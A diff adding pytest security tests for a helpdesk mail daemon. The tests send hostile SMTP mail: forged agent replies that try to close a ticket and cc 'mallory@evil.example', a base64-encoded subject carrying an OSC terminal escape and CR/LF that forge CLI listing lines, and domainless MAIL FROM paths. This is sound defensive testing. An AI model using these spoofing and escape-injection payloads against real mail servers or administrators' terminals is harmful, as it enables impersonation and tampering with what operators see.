@@ -1,0 +1,103 @@
+"""Hostile mail against a running daemon, over real SMTP, after the fixes of issue 14: what an attacker tried
+and what the desk did with it. Holes still open are marked xfail(strict) with the reason; the rest are held
+and stay tested.
+"""
+
+from __future__ import annotations
+
+import base64
+import re
+import smtplib
+import socket
+import time
+from collections.abc import Callable, Iterator
+from email.message import EmailMessage
+from email.utils import make_msgid
+
+import pytest
+
+from desk import AGENTS, REQUESTER, addressed, body_text, open_ticket, reply_to, send_to, wait_for, wait_ticket
+from support import Center
+
+CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # everything but \t and \n
+
+
+@pytest.fixture
+def desk(make_center: Callable[..., Center]) -> Iterator[Center]:
+    center = make_center(extra=AGENTS)
+    center.start()
+    yield center
+
+
+def send_raw(center: Center, sender: str, raw: bytes) -> None:
+    with smtplib.SMTP("127.0.0.1", center.smtp_port) as s:
+        s.sendmail(sender, ["service@corp.example"], raw)
+
+
+def test_the_relayed_reply_gives_the_requester_no_handle_to_pose_as_the_agent(desk: Center) -> None:
+    """The requester sees the agent's reply as relayed by the desk. Every Message-ID it carries (its own,
+    In-Reply-To, References) is put into a mail `From:` the agent, sent to the service address with `#close`:
+    none of them may count as "answers a notification sent to that agent"."""
+    _, _, note = open_ticket(desk)
+    send_to(desk, reply_to(note, "Переустановите клиент VPN, пожалуйста."))
+    relayed = wait_for(desk, lambda ms: [m for m in addressed(REQUESTER)(ms) if "Переустановите" in body_text(m)])[0]
+    ids = re.findall(r"<[^<>\s]+>", " ".join(str(relayed[h] or "") for h in ("Message-ID", "In-Reply-To",
+                                                                           "References")))
+    assert ids
+    for mid in ids:
+        m = EmailMessage()
+        m["From"] = "Иван Иванов <ivanov@corp.example>"
+        m["To"] = "service@corp.example"
+        m["Subject"] = "Re: " + str(relayed["Subject"])
+        m["Message-ID"] = make_msgid(domain="corp.example")
+        m["In-Reply-To"] = mid
+        m["References"] = mid
+        m.set_content("#close\n#cc mallory@evil.example\n")
+        send_to(desk, m)
+    time.sleep(3)
+    t = wait_ticket(desk, lambda t: True)
+    assert t["status"] != "closed"
+    assert "mallory@evil.example" not in [p["email"] for p in t["participants"]]
+
+
+@pytest.mark.xfail(strict=True, reason="daemon/cli.py prints a ticket's subject (and the outbox's) as the mail "
+                   "decoded it: an encoded-word subject holding ESC ] … BEL (an OSC sequence: terminal title, "
+                   "hyperlinks, on some terminals clipboard writes) or CR/LF reaches the admin's terminal raw "
+                   "through `postdesk tickets list`/`tickets show`/`outbox list`, and a CR/LF forges whole "
+                   "lines of the listing; the text output should escape control characters as log lines do")
+def test_a_subject_cannot_write_control_characters_to_the_admins_terminal(desk: Center) -> None:
+    hidden = base64.b64encode(b"VPN\x1b]0;owned\x07 down\r\nSD-999    closed    it    fake line").decode()
+    send_raw(desk, REQUESTER, (f"From: {REQUESTER}\r\nTo: service@corp.example\r\n"
+                               f"Subject: =?utf-8?b?{hidden}?=\r\nMessage-ID: {make_msgid(domain='x.example')}\r\n"
+                               "\r\nС утра не работает VPN.\r\n").encode())
+    wait_for(desk, addressed("ivanov@corp.example", "notify"))
+    for args in (("tickets", "list"), ("tickets", "show", "SD-1"), ("outbox", "list")):
+        out = desk.cli(*args).stdout
+        assert not CONTROL.search(out), (args, out)
+    assert len(desk.cli("tickets", "list").stdout.strip().splitlines()) == 1
+
+
+def smtp_reply(sock: socket.socket) -> bytes:
+    data = b""
+    while not re.search(rb"(^|\r\n)\d{3} [^\r\n]*\r\n$", data):
+        chunk = sock.recv(4096)
+        if not chunk:
+            break
+        data += chunk
+    return data
+
+
+@pytest.mark.xfail(strict=True, reason="daemon/smtp.py's plain MAIL path reader takes a reverse-path with no "
+                   "domain (`<\"a@b\">`, `<\"\">`, and `<\"a\\>` read as `\"a>\"`) with 250; RFC 5321 4.1.2 "
+                   "wants Local-part \"@\" Domain, and the pipeline then makes it the requester and queues an "
+                   "acknowledgment to it; it should get 553 5.1.7 at MAIL like the other malformed senders")
+def test_a_sender_without_a_domain_is_refused_at_mail(desk: Center) -> None:
+    for path in (b'<"a@b">', b'<"">', b'<"a\\>'):
+        sock = socket.create_connection(("127.0.0.1", desk.smtp_port), timeout=10)
+        assert smtp_reply(sock).startswith(b"220")
+        sock.sendall(b"EHLO mta.example\r\n")
+        smtp_reply(sock)
+        sock.sendall(b"MAIL FROM:" + path + b"\r\n")
+        answer = smtp_reply(sock)
+        sock.close()
+        assert answer.startswith(b"553"), (path, answer)
